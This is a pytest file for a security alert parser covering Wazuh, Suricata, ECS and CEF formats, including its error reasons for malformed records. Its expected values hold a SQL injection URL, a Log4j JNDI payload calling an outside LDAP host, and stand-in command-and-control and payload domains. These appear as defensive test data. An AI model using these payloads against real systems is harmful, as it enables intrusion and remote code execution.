"""Each format's parser on real-shaped samples, and the reasons it gives for broken ones."""
import datetime as dt

import pytest

from khien.telemetry import parsers, services
from khien.telemetry.parsers import ParseError

from .conftest import sample_lines

UTC = dt.timezone.utc


def parse(fmt, line):
    decoded, _data, reason = services.canonical(fmt, line)
    if reason:
        raise ParseError(reason)
    return parsers.PARSERS[fmt](decoded)


def reasons(fmt, name):
    out = []
    for line in sample_lines(name):
        with pytest.raises(ParseError) as info:
            parse(fmt, line)
        out.append(info.value.reason)
    return out


def test_wazuh_samples():
    events = [parse("wazuh", line) for line in sample_lines("wazuh_alerts.ndjson")]
    brute, fim, web, repeat = events
    assert brute["time"] == dt.datetime(2026, 11, 24, 14, 3, 11, 482000, tzinfo=UTC)  # +0700 → UTC
    assert (brute["rule_id"], brute["src_ip"], brute["src_port"], brute["severity"]) == ("5712", "203.0.113.45", 52144, 7)
    assert brute["category"] == "authentication" and brute["observer"] == "web-01.min.demo.khien.vn"
    assert fim["category"] == "file"
    assert fim["file_md5"] == "9e107d9d372bb6826bd81d3542a419d6"
    assert fim["file_sha256"] == "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592"
    assert web["url"] == "/index.php?id=1%27%20OR%201=1--" and web["category"] == "web"
    assert repeat["rule_id"] == brute["rule_id"] and repeat["src_ip"] == brute["src_ip"]


def test_wazuh_broken():
    got = reasons("wazuh", "wazuh_broken.ndjson")
    assert got[0].startswith("not valid JSON")
    assert got[1:] == ["missing rule.id", "invalid IP address in data.srcip: 203.0.113.999", "missing timestamp",
                       "record is not a JSON object"]


def test_suricata_samples():
    http, dns, fileinfo, tls = [parse("suricata", line) for line in sample_lines("suricata_eve.ndjson")]
    assert (http["src_ip"], http["src_port"], http["dst_ip"], http["dst_port"]) == ("10.30.4.21", 49822, "192.0.2.80", 80)
    assert http["rule_id"] == "2024897" and http["severity"] == 8  # Suricata severity 1 = highest
    assert http["domain"] == "cdn-update.bad.example"
    assert http["url"] == "http://cdn-update.bad.example/jquery-3.3.1.min.js"
    assert dns["domain"] == "login-verify.phish.example.top" and dns["severity"] == 5
    assert fileinfo["file_sha1"] == "3395856ce81f2b7382dee72602f798b642f14140" and fileinfo["severity"] == 3
    assert tls["src_ip"] == "2001:db8::15" and tls["domain"] == "c2.bad.example"


def test_suricata_broken():
    assert reasons("suricata", "suricata_broken.ndjson") == [
        "event_type 'flow' is not an alert", "port out of range in src_port: 70000", "invalid timestamp: yesterday",
        "missing alert.signature_id", "invalid file hash in fileinfo.md5",
    ]


def test_ecs_samples_nested_and_dotted():
    nested, dotted, signal = [parse("ecs", line) for line in sample_lines("ecs_alerts.ndjson")]
    assert nested["category"] == "intrusion_detection" and nested["severity"] == 7
    assert (nested["src_ip"], nested["dst_port"], nested["rule_id"]) == ("203.0.113.45", 3389, "siem-rdp-bruteforce")
    assert dotted["url"] == "https://dl.bad.example/payload/stage2.bin" and dotted["domain"] == "dl.bad.example"
    assert dotted["file_sha256"] == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"  # lower-cased
    assert signal["kind"] == "signal" and signal["domain"] == "xn--80akhbyknj4f.example"  # trailing dot, case
    assert signal["time"] == dt.datetime(2026, 11, 24, 7, 35, 45, tzinfo=UTC)


def test_ecs_broken():
    assert reasons("ecs", "ecs_broken.ndjson") == [
        "missing @timestamp", "invalid event.severity: very", "missing rule.id and rule.name",
        "invalid IP address in destination.ip: not-an-ip",
    ]


def test_cef_samples_with_syslog_prefix_and_escapes():
    fw, av, corr = [parse("cef", line) for line in sample_lines("cef_alerts.log")]
    assert fw["rule_id"] == "0419016384" and fw["rule_name"] == "IPS: Apache Log4j RCE attempt" and fw["severity"] == 8
    assert (fw["src_ip"], fw["src_port"], fw["dst_ip"], fw["dst_port"]) == ("203.0.113.90", 44122, "10.50.1.20", 8080)
    assert fw["url"] == "http://portal.evn.demo.khien.vn/api?x=${jndi:ldap://198.51.100.9/a}"  # \= unescaped
    assert fw["time"] == dt.datetime(2026, 11, 24, 14, 40, 1, tzinfo=UTC) and fw["category"] == "intrusion_detection"
    assert av["file_sha1"] == "3395856ce81f2b7382dee72602f798b642f14140"
    assert av["time"] == dt.datetime(2026, 11, 24, 14, 50, tzinfo=UTC)  # rt in epoch milliseconds
    assert corr["observer"] == "Demo|Vendor Correlation\\Engine"  # \| and \\ in the header
    assert corr["severity"] == 8 and corr["domain"] == "update.bad.example"
    assert corr["time"] == dt.datetime(2026, 11, 24, 14, 45, 10, 3000, tzinfo=UTC)  # from the RFC 5424 prefix


def test_cef_extension_values_keep_spaces_and_escapes():
    ext = parsers.parse_cef_extension(r"msg=beacon every 60s\=suspicious path=C:\\tmp\\x.exe src=10.0.0.1")
    assert ext == {"msg": "beacon every 60s=suspicious", "path": "C:\\tmp\\x.exe", "src": "10.0.0.1"}


def test_cef_broken():
    assert reasons("cef", "cef_broken.log") == [
        "CEF header has 6 fields, expected 8", "no CEF header", "invalid CEF severity: eleven",
        "missing CEF signature id", "missing time (rt, end, start or syslog timestamp)",
        "invalid IP address in src: 10.0.0.300",
    ]


def test_canonical_identity_ignores_key_order_and_spacing():
    a = b'{"rule": {"id": "1", "level": 3}, "timestamp": "2026-11-24T00:00:00Z"}'
    b = b'{"timestamp":"2026-11-24T00:00:00Z","rule":{"level":3,"id":"1"}}'
    assert services.canonical("wazuh", a)[1] == services.canonical("wazuh", b)[1]
    assert services.canonical("wazuh", a)[1] == services.canonical("wazuh", {"timestamp": "2026-11-24T00:00:00Z",
                                                                            "rule": {"level": 3, "id": "1"}})[1]
